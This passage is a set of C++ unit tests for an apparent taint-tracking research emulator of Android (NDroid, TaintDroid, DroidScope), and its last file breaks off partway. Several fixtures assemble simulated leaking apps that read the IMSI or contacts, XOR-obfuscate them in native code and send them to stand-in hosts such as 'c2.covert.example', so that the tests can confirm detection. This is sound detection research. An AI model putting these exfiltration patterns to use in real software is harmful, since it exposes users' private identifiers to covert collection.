  EXPECT_EQ(cpu_.call_function(kCode, {50}), 50u);
  const core::PerfCounters perf = core::collect_perf(cpu_);
  EXPECT_GT(perf.threaded_patches, patches_before);
  EXPECT_GT(perf.tb_flushes, 0u);
}

TEST_F(ThreadedFixture, AblationMatchesPerInstructionTbTier) {
  Assembler a(kCode);
  Label loop, done;
  a.mov_imm(R(1), 7);
  a.mov_imm(R(2), 0);
  a.bind(loop);
  a.cmp_imm(R(0), 0);
  a.b(done, Cond::kEQ);
  a.mul(R(1), R(1), R(1));
  a.eor(R(2), R(2), R(1));
  a.add_imm(R(2), R(2), 13);
  a.sub_imm(R(0), R(0), 1);
  a.b(loop);
  a.bind(done);
  a.mov(R(0), R(2));
  a.ret();
  const u32 threaded_result = run(a, {37});

  cpu_.set_threaded_enabled(false);  // PR-5 tier for ablation
  const u64 links_before = core::collect_perf(cpu_).threaded_links;
  const u32 tb_result = cpu_.call_function(kCode, {37});
  EXPECT_EQ(tb_result, threaded_result);
  // The disabled tier must not touch the linking machinery at all.
  EXPECT_EQ(core::collect_perf(cpu_).threaded_links, links_before);

  cpu_.set_threaded_enabled(true);
  EXPECT_EQ(cpu_.call_function(kCode, {37}), threaded_result);
}

TEST_F(ThreadedFixture, GatedHooksStayFastpathInsideThreadedLoop) {
  // A gated hook with an always-false block gate: the threaded loop must
  // keep executing the clean (hook-free) uop streams and account the
  // skipped blocks, exactly like exec_block's fast path.
  u64 fired = 0;
  cpu_.add_insn_hook(
      [&fired](Cpu&, const arm::Insn&, GuestAddr) { ++fired; },
      /*gated=*/true);
  cpu_.set_block_gate(
      [](Cpu&, arm::TranslationBlock&) { return false; });

  Assembler a(kCode);
  Label loop, done;
  a.mov_imm(R(1), 0);
  a.bind(loop);
  a.cmp_imm(R(0), 0);
  a.b(done, Cond::kEQ);
  a.add_imm(R(1), R(1), 2);
  a.sub_imm(R(0), R(0), 1);
  a.b(loop);
  a.bind(done);
  a.mov(R(0), R(1));
  a.ret();
  EXPECT_EQ(run(a, {200}), 400u);
  EXPECT_EQ(fired, 0u);

  const core::PerfCounters perf = core::collect_perf(cpu_);
  EXPECT_GT(perf.fastpath_blocks, 0u);
  EXPECT_GT(perf.fastpath_insns, 0u);
  EXPECT_GT(perf.threaded_links, 0u);  // gating must not inhibit linking
}

TEST_F(ThreadedFixture, UngatedHookFiresOnEveryInstructionWhenThreaded) {
  u64 fired = 0;
  cpu_.add_insn_hook(
      [&fired](Cpu&, const arm::Insn&, GuestAddr) { ++fired; });

  Assembler a(kCode);
  a.mov_imm(R(0), 1);
  a.add_imm(R(0), R(0), 2);
  a.add_imm(R(0), R(0), 4);
  a.ret();
  EXPECT_EQ(run(a), 7u);
  EXPECT_EQ(fired, 4u);  // three ALU ops + the return
}

}  // namespace
}  // namespace ndroid
