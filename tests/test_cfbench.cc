#include <gtest/gtest.h>

#include "apps/cfbench.h"
#include "core/ndroid.h"
#include "droidscope/droidscope.h"

namespace ndroid::apps {
namespace {

using android::Device;

TEST(CfBench, AllWorkloadsRunUnderEveryConfiguration) {
  // Every workload must complete (and compute the same checksum) under
  // vanilla, TaintDroid-only, NDroid, and DroidScope-mode.
  std::map<std::string, u32> reference;
  for (int config = 0; config < 4; ++config) {
    Device device("eu.chainfire.cfbench");
    std::unique_ptr<core::NDroid> nd;
    std::unique_ptr<droidscope::DroidScope> ds;
    switch (config) {
      case 0:  // vanilla
        device.dvm.policy().propagate_java = false;
        device.dvm.policy().jni_ret_union = false;
        break;
      case 1:  // TaintDroid only
        break;
      case 2:  // NDroid
        nd = std::make_unique<core::NDroid>(device);
        break;
      case 3:  // DroidScope-mode
        ds = std::make_unique<droidscope::DroidScope>(device);
        break;
    }
    CfBenchApp bench(device);
    for (const CfWorkload& w : bench.workloads()) {
      const u32 result = bench.run(w, 50);
      if (config == 0) {
        reference[w.name] = result;
      } else {
        EXPECT_EQ(result, reference[w.name])
            << w.name << " under config " << config;
      }
    }
  }
}

TEST(CfBench, WorkloadCatalogueMatchesCfBenchCategories) {
  Device device;
  CfBenchApp bench(device);
  const char* expected[] = {
      "Native MIPS",        "Java MIPS",         "Native MSFLOPS",
      "Java MSFLOPS",       "Native MDFLOPS",    "Java MDFLOPS",
      "Native MALLOCS",     "Native Memory Read", "Java Memory Read",
      "Native Memory Write", "Java Memory Write", "Native Disk Read",
      "Native Disk Write",
  };
  for (const char* name : expected) {
    EXPECT_NE(bench.find(name), nullptr) << name;
  }
}

TEST(CfBench, JavaMipsComputesDeterministically) {
  Device d1, d2;
  CfBenchApp b1(d1), b2(d2);
  const u32 r1 = b1.run(*b1.find("Java MIPS"), 100);
  const u32 r2 = b2.run(*b2.find("Java MIPS"), 100);
  EXPECT_EQ(r1, r2);
  EXPECT_NE(r1, 0u);
}

TEST(CfBench, NativeMallocsExerciseAllocator) {
  Device device;
  CfBenchApp bench(device);
  const u64 before = device.libc.mallocs_performed();
  bench.run(*bench.find("Native MALLOCS"), 25);
  EXPECT_EQ(device.libc.mallocs_performed() - before, 25u);
}

TEST(CfBench, DiskWorkloadsTouchTheVfs) {
  Device device;
  CfBenchApp bench(device);
  bench.run(*bench.find("Native Disk Write"), 10);
  EXPECT_EQ(device.kernel.vfs().size("/data/cfbench.dat"), 10u * 64u);
  bench.run(*bench.find("Native Disk Read"), 10);  // must not throw
}

TEST(CfBench, NDroidTracesNativeButNotJavaWorkloads) {
  Device device;
  // This test checks the tracer's *scope* (native vs Java), so disable the
  // taint-liveness fast path: the cfbench workloads carry no taint and would
  // otherwise be skipped wholesale before scoping is ever consulted.
  core::NDroidConfig cfg;
  cfg.taint_liveness_fastpath = false;
  core::NDroid nd(device, cfg);
  CfBenchApp bench(device);

  bench.run(*bench.find("Java MIPS"), 100);
  const u64 after_java = nd.tracer().instructions_traced();
  bench.run(*bench.find("Native MIPS"), 100);
  const u64 after_native = nd.tracer().instructions_traced();

  // Java-side work adds no traced instructions (the interpreter is not
  // third-party native code); native-side work adds plenty.
  EXPECT_EQ(after_java, 0u);
  EXPECT_GT(after_native, 100u * 8u / 2u);
}

TEST(CfBench, DroidScopeReconstructsPerBytecode) {
  Device device;
  droidscope::DroidScope ds(device);
  CfBenchApp bench(device);
  bench.run(*bench.find("Java MIPS"), 10);
  EXPECT_GT(ds.dvm_reconstructions(), 10u);
}

}  // namespace
}  // namespace ndroid::apps
