// The paper's §III observation: "apps in the category of 'Communication'
// often employ native code to hide communication protocols or encrypt data."
// Byte-level taint tracking must survive such obfuscation: this app XOR
// "encrypts" the secret in a native loop before sending it, so the bytes on
// the wire look nothing like the source — but every output byte
// data-depends on a tainted input byte, and Table V's rules carry the taint
// through the arithmetic.
#include <gtest/gtest.h>

#include "apps/native_lib_builder.h"
#include "core/ndroid.h"

namespace ndroid::core {
namespace {

using android::Device;
using arm::Cond;
using arm::Label;
using arm::LR;
using arm::PC;
using arm::R;

struct CryptoApp {
  dvm::Method* entry;
};

CryptoApp build_encrypting_exfiltrator(Device& device) {
  apps::NativeLibBuilder lib(device, "libcrypto_embedded.so");
  auto& a = lib.a();
  const GuestAddr host = lib.cstr("c2.covert.example");
  const GuestAddr out = lib.buffer(64);

  // void exfil(JNIEnv*, jclass, jstring secret):
  //   p = GetStringUTFChars(secret);
  //   for i: out[i] = p[i] ^ 0x5A (keystream stand-in), keeping length;
  //   send(socket, out, len)
  const GuestAddr fn = lib.fn();
  Label loop, done;
  a.push({R(4), R(5), R(6), LR});
  a.mov(R(4), R(0));  // env
  a.mov(R(1), R(2));
  a.mov_imm(R(2), 0);
  a.call(device.jni.fn("GetStringUTFChars"));
  // r0 = p; encrypt into `out`
  a.mov(R(5), R(0));
  a.mov_imm32(R(6), out);
  a.mov_imm(R(3), 0);  // length counter
  a.bind(loop);
  a.ldrb_post(R(1), R(5), 1);
  a.cmp_imm(R(1), 0);
  a.b(done, Cond::kEQ);
  a.eor_imm(R(1), R(1), 0x5A);
  a.strb_post(R(1), R(6), 1);
  a.add_imm(R(3), R(3), 1);
  a.b(loop);
  a.bind(done);
  a.mov(R(6), R(3));  // length
  // fd = socket(2,1,0); connect; send(fd, out, len)
  a.mov_imm(R(0), 2);
  a.mov_imm(R(1), 1);
  a.mov_imm(R(2), 0);
  a.call(device.libc.fn("socket"));
  a.mov(R(5), R(0));
  a.mov_imm32(R(1), host);
  a.movw(R(2), 443);
  a.call(device.libc.fn("connect"));
  a.mov(R(0), R(5));
  a.mov_imm32(R(1), out);
  a.mov(R(2), R(6));
  a.call(device.libc.fn("send"));
  a.pop({R(4), R(5), R(6), PC});
  lib.install();

  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lcrypto/App;");
  dvm::Method* exfil = dvm.define_native(
      app, "exfil", "VL", dvm::kAccPublic | dvm::kAccStatic, fn);
  dvm::Method* src =
      device.framework.telephony->find_method("getSubscriberId");
  dvm::CodeBuilder cb;
  cb.invoke(src, {}).move_result(0).invoke(exfil, {0}).return_void();
  dvm::Method* entry = dvm.define_method(
      app, "main", "V", dvm::kAccPublic | dvm::kAccStatic, 1, cb.take());
  return CryptoApp{entry};
}

TEST(Obfuscation, EncryptedExfiltrationStillDetected) {
  Device device("com.covert.comm");
  NDroid nd(device);
  const CryptoApp app = build_encrypting_exfiltrator(device);
  device.dvm.call(*app.entry, {});

  // The wire bytes are obfuscated (no plaintext IMSI present)...
  const std::string sent =
      device.kernel.network().bytes_sent_to("c2.covert.example");
  ASSERT_FALSE(sent.empty());
  EXPECT_EQ(sent.find(device.framework.identity().imsi), std::string::npos);
  // ...and decrypt back to the IMSI, proving real exfiltration.
  std::string decrypted;
  for (char c : sent) decrypted.push_back(static_cast<char>(c ^ 0x5A));
  EXPECT_EQ(decrypted, device.framework.identity().imsi);

  // NDroid still flags it: the taint rode through the XOR loop.
  ASSERT_FALSE(nd.leaks().empty());
  EXPECT_EQ(nd.leaks()[0].sink, "send");
  EXPECT_EQ(nd.leaks()[0].destination, "c2.covert.example");
  EXPECT_EQ(nd.leaks()[0].taint, kTaintImsi);
}

TEST(Obfuscation, MissedByTaintDroidAlone) {
  Device device("com.covert.comm");
  const CryptoApp app = build_encrypting_exfiltrator(device);
  device.dvm.call(*app.entry, {});
  EXPECT_FALSE(
      device.kernel.network().bytes_sent_to("c2.covert.example").empty());
  EXPECT_TRUE(device.framework.leaks().empty());
}

}  // namespace
}  // namespace ndroid::core
