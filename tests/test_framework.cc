#include <gtest/gtest.h>

#include "android/device.h"

namespace ndroid::taintdroid {
namespace {

using android::Device;
using dvm::CodeBuilder;
using dvm::kAccPublic;
using dvm::kAccStatic;
using dvm::Method;
using dvm::Slot;

class FrameworkFixture : public ::testing::Test {
 protected:
  Device device_{"com.test.app"};
};

TEST_F(FrameworkFixture, SourcesReturnTaintedStrings) {
  Method* m = device_.framework.telephony->find_method("getDeviceId");
  ASSERT_NE(m, nullptr);
  const Slot r = device_.dvm.call(*m, {});
  EXPECT_EQ(r.taint, kTaintImei);
  dvm::Object* s = device_.dvm.heap().object_at(r.value);
  ASSERT_NE(s, nullptr);
  EXPECT_EQ(s->utf(), "354958031234567");
  EXPECT_EQ(device_.dvm.heap().object_taint(*s), kTaintImei);
}

TEST_F(FrameworkFixture, AllSourcesCarryDistinctTags) {
  struct Case {
    dvm::ClassObject* cls;
    const char* method;
    Taint taint;
  };
  const Case cases[] = {
      {device_.framework.telephony, "getSubscriberId", kTaintImsi},
      {device_.framework.telephony, "getLine1Number", kTaintPhoneNumber},
      {device_.framework.telephony, "getSimSerialNumber", kTaintIccid},
      {device_.framework.sms_manager, "getAllMessages", kTaintSms},
      {device_.framework.contacts, "queryContacts", kTaintContacts},
  };
  for (const Case& c : cases) {
    Method* m = c.cls->find_method(c.method);
    ASSERT_NE(m, nullptr) << c.method;
    EXPECT_EQ(device_.dvm.call(*m, {}).taint, c.taint) << c.method;
  }
  Method* loc =
      device_.framework.location->find_method("getLastKnownLocation");
  EXPECT_NE(device_.dvm.call(*loc, {}).taint & kTaintLocationGps, 0u);
}

TEST_F(FrameworkFixture, NetworkSinkFlagsTaintedData) {
  // Java app: contacts = queryContacts(); NetworkOutput.send(host, contacts)
  auto& dvm = device_.dvm;
  Method* src = device_.framework.contacts->find_method("queryContacts");
  Method* sink = device_.framework.network->find_method("send");

  dvm::ClassObject* app = dvm.define_class("Lcom/test/App;");
  CodeBuilder cb;
  cb.const_string(0, "evil.example.com")
      .invoke(src, {})
      .move_result(1)
      .invoke(sink, {0, 1})
      .return_void();
  Method* main =
      dvm.define_method(app, "main", "V", kAccPublic | kAccStatic, 2,
                        cb.take());
  dvm.call(*main, {});

  // Real bytes left the device.
  EXPECT_EQ(device_.kernel.network().bytes_sent_to("evil.example.com"),
            "1|Vincent|cx@gg.com");
  // TaintDroid flagged the flow.
  ASSERT_EQ(device_.framework.leaks().size(), 1u);
  EXPECT_EQ(device_.framework.leaks()[0].taint, kTaintContacts);
  EXPECT_EQ(device_.framework.leaks()[0].sink, "OutputStream.write");
}

TEST_F(FrameworkFixture, UntaintedSendNotFlagged) {
  auto& dvm = device_.dvm;
  Method* sink = device_.framework.network->find_method("send");
  dvm::ClassObject* app = dvm.define_class("Lcom/test/App2;");
  CodeBuilder cb;
  cb.const_string(0, "ads.example.com")
      .const_string(1, "harmless")
      .invoke(sink, {0, 1})
      .return_void();
  Method* main = dvm.define_method(app, "main", "V",
                                   kAccPublic | kAccStatic, 2, cb.take());
  dvm.call(*main, {});
  EXPECT_EQ(device_.kernel.network().bytes_sent_to("ads.example.com"),
            "harmless");
  EXPECT_TRUE(device_.framework.leaks().empty());
}

TEST_F(FrameworkFixture, FileSinkFlagsTaintedData) {
  auto& dvm = device_.dvm;
  Method* src = device_.framework.telephony->find_method("getDeviceId");
  Method* sink = device_.framework.file_output->find_method("write");
  dvm::ClassObject* app = dvm.define_class("Lcom/test/App3;");
  CodeBuilder cb;
  cb.const_string(0, "/sdcard/ids.txt")
      .invoke(src, {})
      .move_result(1)
      .invoke(sink, {0, 1})
      .return_void();
  Method* main = dvm.define_method(app, "main", "V",
                                   kAccPublic | kAccStatic, 2, cb.take());
  dvm.call(*main, {});
  EXPECT_EQ(device_.kernel.vfs().content_str("/sdcard/ids.txt"),
            "354958031234567");
  ASSERT_EQ(device_.framework.leaks().size(), 1u);
  EXPECT_EQ(device_.framework.leaks()[0].taint, kTaintImei);
}

TEST_F(FrameworkFixture, ConcatPropagatesTaintUnion) {
  auto& dvm = device_.dvm;
  Method* imei = device_.framework.telephony->find_method("getDeviceId");
  Method* sms = device_.framework.sms_manager->find_method("getAllMessages");
  Method* concat = device_.framework.string_ops->find_method("concat");
  dvm::ClassObject* app = dvm.define_class("Lcom/test/App4;");
  CodeBuilder cb;
  cb.invoke(imei, {})
      .move_result(0)
      .invoke(sms, {})
      .move_result(1)
      .invoke(concat, {0, 1})
      .move_result(2)
      .return_value(2);
  Method* main = dvm.define_method(app, "main", "L",
                                   kAccPublic | kAccStatic, 3, cb.take());
  const Slot r = dvm.call(*main, {});
  EXPECT_EQ(r.taint, kTaintImei | kTaintSms);
}

TEST_F(FrameworkFixture, TaintDroidOffSuppressesDetectionButNotTraffic) {
  device_.dvm.policy().propagate_java = false;
  auto& dvm = device_.dvm;
  Method* src = device_.framework.contacts->find_method("queryContacts");
  Method* sink = device_.framework.network->find_method("send");
  dvm::ClassObject* app = dvm.define_class("Lcom/test/App5;");
  CodeBuilder cb;
  cb.const_string(0, "h.example")
      .invoke(src, {})
      .move_result(1)
      .invoke(sink, {0, 1})
      .return_void();
  Method* main = dvm.define_method(app, "main", "V",
                                   kAccPublic | kAccStatic, 2, cb.take());
  dvm.call(*main, {});
  EXPECT_FALSE(device_.kernel.network().bytes_sent_to("h.example").empty());
  EXPECT_TRUE(device_.framework.leaks().empty());
}

TEST_F(FrameworkFixture, DeviceVmiSeesAppAndLibraries) {
  // Load an app lib, then reconstruct the OS view from guest memory only.
  std::vector<u8> image(0x100, 0);
  device_.load_native_lib("libtccsync.so", image);
  os::ViewReconstructor recon(device_.memory, os::Kernel::kTaskRoot);
  const auto views = recon.reconstruct();
  const os::ProcessView* app = recon.find_process(views, "com.test.app");
  ASSERT_NE(app, nullptr);
  EXPECT_NE(app->find_module("libdvm.so"), nullptr);
  EXPECT_NE(app->find_module("libc.so"), nullptr);
  EXPECT_NE(app->find_module("libtccsync.so"), nullptr);
}

TEST_F(FrameworkFixture, LoadedLibsGetDistinctRanges) {
  std::vector<u8> image(0x2000, 0xAB);
  const GuestAddr a = device_.load_native_lib("liba.so", image);
  const GuestAddr b = device_.load_native_lib("libb.so", image);
  EXPECT_GE(b, a + 0x2000);
  EXPECT_EQ(device_.memory.read8(a), 0xAB);
  EXPECT_EQ(device_.memmap.module_of(a), "liba.so");
  EXPECT_EQ(device_.memmap.module_of(b), "libb.so");
}

}  // namespace
}  // namespace ndroid::taintdroid
