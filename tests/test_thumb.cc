// Thumb-16 decode + execution, including ARM<->Thumb interworking — the
// paper's tracer must follow both instruction sets (§V-C).
#include <gtest/gtest.h>

#include "arm/assembler.h"
#include "arm/cpu.h"
#include "arm/thumb_assembler.h"

namespace ndroid::arm {
namespace {

class ThumbFixture : public ::testing::Test {
 protected:
  static constexpr GuestAddr kCode = 0x10000;
  static constexpr GuestAddr kData = 0x20000;

  ThumbFixture() : cpu_(mem_, map_) {
    map_.add("code", kCode, 0x4000, mem::kRX);
    map_.add("data", kData, 0x4000, mem::kRW);
    map_.add("[stack]", 0x70000, 0x10000, mem::kRW);
    cpu_.set_initial_sp(0x80000);
  }

  /// Runs Thumb code as a function (entry address has the Thumb bit set).
  u32 run(ThumbAssembler& a, const std::vector<u32>& args = {}) {
    const auto code = a.finish();
    mem_.write_bytes(kCode, code);
    return cpu_.call_function(kCode | 1, args);
  }

  mem::AddressSpace mem_;
  mem::MemoryMap map_;
  Cpu cpu_;
};

TEST(ThumbDecoder, BasicForms) {
  // movs r1, #42
  Insn insn = decode_thumb(0x2100 | 42, 0);
  EXPECT_EQ(insn.op, Op::kMov);
  EXPECT_TRUE(insn.imm_operand);
  EXPECT_EQ(insn.rd, 1);
  EXPECT_EQ(insn.imm, 42u);
  EXPECT_EQ(insn.length, 2);

  // adds r0, r1, r2
  insn = decode_thumb(0x1888, 0);
  EXPECT_EQ(insn.op, Op::kAdd);
  EXPECT_EQ(insn.rd, 0);
  EXPECT_EQ(insn.rn, 1);
  EXPECT_EQ(insn.rm, 2);
  EXPECT_TRUE(insn.set_flags);

  // bx lr
  insn = decode_thumb(0x4770, 0);
  EXPECT_EQ(insn.op, Op::kBx);
  EXPECT_EQ(insn.rm, 14);

  // push {r4, lr}
  insn = decode_thumb(0xB510, 0);
  EXPECT_EQ(insn.op, Op::kStm);
  EXPECT_EQ(insn.reglist, (1u << 4) | (1u << 14));

  // pop {r4, pc}
  insn = decode_thumb(0xBD10, 0);
  EXPECT_EQ(insn.op, Op::kLdm);
  EXPECT_EQ(insn.reglist, (1u << 4) | (1u << 15));
}

TEST(ThumbDecoder, BlPairConsumesFourBytes) {
  // bl with offset 0x100: first = 0xF000, second = 0xF800 | 0x80
  const Insn insn = decode_thumb(0xF000, 0xF880);
  EXPECT_EQ(insn.op, Op::kBl);
  EXPECT_EQ(insn.length, 4);
  EXPECT_EQ(insn.branch_offset, 0x100);
}

TEST(ThumbDecoder, NegativeBranchOffset) {
  // b with offset -4: imm11 = (-4 >> 1) & 0x7FF = 0x7FE
  const Insn insn = decode_thumb(0xE000 | 0x7FE, 0);
  EXPECT_EQ(insn.op, Op::kB);
  EXPECT_EQ(insn.branch_offset, -4);
}

TEST_F(ThumbFixture, AddFunction) {
  ThumbAssembler a(kCode);
  a.adds(R(0), R(0), R(1));
  a.bx(LR);
  EXPECT_EQ(run(a, {40, 2}), 42u);
}

TEST_F(ThumbFixture, LoopSum) {
  ThumbAssembler a(kCode);
  a.movs_imm(R(1), 0);
  ThumbLabel loop, done;
  a.bind(loop);
  a.cmp_imm(R(0), 0);
  a.b(done, Cond::kEQ);
  a.adds(R(1), R(1), R(0));
  a.subs_imm8(R(0), 1);
  a.b(loop);
  a.bind(done);
  a.mov(R(0), R(1));
  a.bx(LR);
  EXPECT_EQ(run(a, {10}), 55u);
}

TEST_F(ThumbFixture, LoadStore) {
  ThumbAssembler a(kCode);
  a.load_imm32(R(1), kData);
  a.str(R(0), R(1), 0);
  a.ldrb(R(2), R(1), 0);
  a.ldrh(R(3), R(1), 0);
  a.adds(R(0), R(2), R(3));
  a.bx(LR);
  EXPECT_EQ(run(a, {0x0000F0F1}), 0xF0F1u + 0xF1u);
}

TEST_F(ThumbFixture, PushPopFrame) {
  ThumbAssembler a(kCode);
  a.push({R(4), LR});
  a.movs_imm(R(4), 9);
  a.lsls(R(4), R(4), 2);
  a.mov(R(0), R(4));
  a.pop({R(4), PC});
  EXPECT_EQ(run(a), 36u);
}

TEST_F(ThumbFixture, BlCallsLocalFunction) {
  ThumbAssembler a(kCode);
  ThumbLabel helper;
  a.push({LR});
  a.bl(helper);
  a.adds_imm8(R(0), 1);
  a.pop({PC});
  a.bind(helper);
  a.movs_imm(R(0), 41);
  a.bx(LR);
  EXPECT_EQ(run(a), 42u);
}

TEST_F(ThumbFixture, MulAndLogic) {
  ThumbAssembler a(kCode);
  a.muls(R(0), R(1));   // r0 *= r1
  a.movs_imm(R(2), 0x0F);
  a.ands(R(0), R(2));
  a.bx(LR);
  EXPECT_EQ(run(a, {6, 7}), 42u & 0xF);
}

TEST_F(ThumbFixture, SignExtension) {
  ThumbAssembler a(kCode);
  a.sxtb(R(0), R(0));
  a.bx(LR);
  EXPECT_EQ(run(a, {0x80}), 0xFFFFFF80u);

  ThumbAssembler b(kCode);
  b.uxth(R(0), R(0));
  b.bx(LR);
  EXPECT_EQ(run(b, {0xABCD1234}), 0x1234u);
}

TEST_F(ThumbFixture, InterworkingArmCallsThumb) {
  // ARM function at kCode calls a Thumb function at kCode+0x100 via blx.
  ThumbAssembler t(kCode + 0x100);
  t.adds(R(0), R(0), R(0));
  t.bx(LR);
  const auto tcode = t.finish();
  mem_.write_bytes(kCode + 0x100, tcode);

  Assembler a(kCode);
  a.push({LR});
  a.call((kCode + 0x100) | 1);  // Thumb entry
  a.add_imm(R(0), R(0), 2);
  a.pop({PC});
  const auto acode = a.finish();
  mem_.write_bytes(kCode, acode);
  EXPECT_EQ(cpu_.call_function(kCode, {20}), 42u);
}

TEST_F(ThumbFixture, InterworkingThumbCallsArm) {
  Assembler arm_fn(kCode + 0x200);
  arm_fn.mul(R(0), R(0), R(0));
  arm_fn.ret();
  const auto acode = arm_fn.finish();
  mem_.write_bytes(kCode + 0x200, acode);

  ThumbAssembler t(kCode);
  t.push({LR});
  t.call(kCode + 0x200);  // ARM entry (bit 0 clear)
  t.adds_imm8(R(0), 6);
  t.pop({PC});
  EXPECT_EQ(run(t, {6}), 42u);
}

TEST_F(ThumbFixture, SpRelativeAccess) {
  ThumbAssembler a(kCode);
  a.sub_sp(8);
  a.str_sp(R(0), 0);
  a.movs_imm(R(0), 0);
  a.ldr_sp(R(0), 4);  // untouched slot reads back 0
  a.ldr_sp(R(0), 0);
  a.add_sp(8);
  a.bx(LR);
  EXPECT_EQ(run(a, {77}), 77u);
}

}  // namespace
}  // namespace ndroid::arm
