// End-to-end leak detection through a THUMB-mode native library.
//
// The paper's tracer handles both ARM and Thumb instruction streams (§V-C:
// 148 ARM + 73 Thumb instructions analysed; 101 + 55 handled). This test
// builds a case-2-style app whose native method is Thumb code with its own
// byte-copy loop — the taint must flow through Thumb LDRB/STRB via Table V
// and reach the send() sink.
#include <gtest/gtest.h>

#include "arm/thumb_assembler.h"
#include "core/ndroid.h"

namespace ndroid::core {
namespace {

using android::Device;

struct ThumbApp {
  dvm::Method* entry = nullptr;
};

ThumbApp build_thumb_leaker(Device& device) {
  // Data lives in the guest: host name string and a destination buffer.
  const GuestAddr host = device.dvm.data_cstr("thumb.evil.example");
  const GuestAddr buf = device.libc.malloc_guest(128);

  const GuestAddr base = device.next_lib_base();
  arm::ThumbAssembler t(base);
  using arm::LR;
  using arm::PC;
  using arm::R;

  // void leak(JNIEnv* r0, jclass r1, jstring r2)  [Thumb]
  t.push({R(4), R(5), R(6), LR});
  // p = GetStringUTFChars(env, jstr, 0)
  t.mov(R(1), R(2));
  t.movs_imm(R(2), 0);
  t.call(device.jni.fn("GetStringUTFChars"));
  t.mov(R(5), R(0));
  // Thumb byte-copy loop: buf[i] = p[i] until NUL (inclusive).
  t.load_imm32(R(6), buf);
  arm::ThumbLabel loop;
  t.bind(loop);
  t.ldrb(R(3), R(5), 0);
  t.strb(R(3), R(6), 0);
  t.adds_imm8(R(5), 1);
  t.adds_imm8(R(6), 1);
  t.cmp_imm(R(3), 0);
  t.b(loop, arm::Cond::kNE);
  // fd = socket(2, 1, 0); connect(fd, host, 80)
  t.movs_imm(R(0), 2);
  t.movs_imm(R(1), 1);
  t.movs_imm(R(2), 0);
  t.call(device.libc.fn("socket"));
  t.mov(R(4), R(0));
  t.load_imm32(R(1), host);
  t.movs_imm(R(2), 80);
  t.call(device.libc.fn("connect"));
  // n = strlen(buf); send(fd, buf, n)
  t.load_imm32(R(0), buf);
  t.call(device.libc.fn("strlen"));
  t.mov(R(2), R(0));
  t.mov(R(0), R(4));
  t.load_imm32(R(1), buf);
  t.call(device.libc.fn("send"));
  t.movs_imm(R(0), 0);
  t.pop({R(4), R(5), R(6), PC});

  const auto image = t.finish();
  device.load_native_lib("libthumbleak.so", image);

  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lthumb/App;");
  dvm::Method* leak = dvm.define_native(
      app, "leak", "VL", dvm::kAccPublic | dvm::kAccStatic, base | 1);
  dvm::Method* src = device.framework.contacts->find_method("queryContacts");
  dvm::CodeBuilder cb;
  cb.invoke(src, {}).move_result(0).invoke(leak, {0}).return_void();
  dvm::Method* entry = dvm.define_method(
      app, "main", "V", dvm::kAccPublic | dvm::kAccStatic, 1, cb.take());
  return ThumbApp{entry};
}

TEST(ThumbScenario, LeakDetectedThroughThumbCode) {
  Device device("com.thumb.app");
  NDroid nd(device);
  const ThumbApp app = build_thumb_leaker(device);
  device.dvm.call(*app.entry, {});

  // Ground truth: the contacts left the device.
  EXPECT_EQ(device.kernel.network().bytes_sent_to("thumb.evil.example"),
            "1|Vincent|cx@gg.com");
  // NDroid flagged the native sink, taint propagated via Thumb instructions.
  ASSERT_FALSE(nd.leaks().empty());
  EXPECT_EQ(nd.leaks()[0].sink, "send");
  EXPECT_EQ(nd.leaks()[0].taint, kTaintContacts);
  EXPECT_GT(nd.tracer().instructions_traced(), 50u);
}

TEST(ThumbScenario, MissedByTaintDroidAlone) {
  Device device("com.thumb.app");
  const ThumbApp app = build_thumb_leaker(device);
  device.dvm.call(*app.entry, {});
  EXPECT_FALSE(
      device.kernel.network().bytes_sent_to("thumb.evil.example").empty());
  EXPECT_TRUE(device.framework.leaks().empty());
}

TEST(ThumbScenario, SourcePolicyAppliedAtThumbEntry) {
  Device device("com.thumb.app");
  NDroid nd(device);
  const ThumbApp app = build_thumb_leaker(device);
  device.dvm.call(*app.entry, {});
  EXPECT_EQ(nd.dvm_hooks().source_policies_created, 1u);
  EXPECT_EQ(nd.dvm_hooks().source_policies_applied, 1u);
}

}  // namespace
}  // namespace ndroid::core
