// Static CFG lifter and taint summaries: unit tests over hand-assembled
// functions (block structure, call-graph closure, IT'd conditional-branch
// successors, memory-access classification, arg-flow facts) plus the
// soundness property the dynamic layer relies on: every branch event the
// executor produces inside lifted code is covered by the static CFG's
// successors / call edges / return & indirect flags.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdio>
#include <string>
#include <vector>

#include "android/device.h"
#include "apps/cfbench.h"
#include "apps/leak_cases.h"
#include "arm/assembler.h"
#include "arm/cpu.h"
#include "arm/thumb_assembler.h"
#include "os/view_reconstructor.h"
#include "static/cfg.h"
#include "static/scan_report.h"
#include "static/summary.h"

namespace ndroid {
namespace {

namespace sa = static_analysis;
using arm::Assembler;
using arm::Cond;
using arm::Label;
using arm::LR;
using arm::R;
using arm::SP;
using arm::ThumbAssembler;
using arm::ThumbLabel;

// ---------------------------------------------------------------------------
// Unit tests over raw memory
// ---------------------------------------------------------------------------

class LifterFixture : public ::testing::Test {
 protected:
  static constexpr GuestAddr kCode = 0x10000;
  static constexpr u32 kCodeSize = 0x4000;

  LifterFixture() : cpu_(mem_, map_) {
    map_.add("code", kCode, kCodeSize, mem::kRX);
    map_.add("[stack]", 0x70000, 0x10000, mem::kRW);
    cpu_.set_initial_sp(0x80000);
  }

  sa::Program lift(const std::vector<u8>& image,
                   std::vector<sa::FunctionEntry> entries) {
    mem_.write_bytes(kCode, image);
    const sa::CfgLifter lifter(mem_,
                               {{kCode, kCode + kCodeSize, "code"}});
    return lifter.lift(entries);
  }

  mem::AddressSpace mem_;
  mem::MemoryMap map_;
  arm::Cpu cpu_;
};

TEST_F(LifterFixture, ArmLoopBlocksAndCallGraphClosure) {
  Assembler a(kCode);
  // helper: r0 = r0 + 7
  const GuestAddr helper = a.here();
  a.add_imm(R(0), R(0), 7);
  a.ret();
  // entry(n): loop summing, then bl helper.
  const GuestAddr entry = a.here();
  Label loop, done;
  a.push({R(4), LR});
  a.mov_imm(R(1), 0);
  a.bind(loop);
  a.cmp_imm(R(0), 0);
  a.b(done, Cond::kEQ);
  a.add(R(1), R(1), R(0));
  a.sub_imm(R(0), R(0), 1);
  a.b(loop);
  a.bind(done);
  a.mov(R(0), R(1));
  a.bl_abs(helper);
  a.pop({R(4), arm::PC});
  const sa::Program prog = lift(a.finish(), {{entry, "entry"}});

  const sa::FunctionCfg* fn = prog.function(entry);
  ASSERT_NE(fn, nullptr);
  EXPECT_FALSE(fn->truncated);
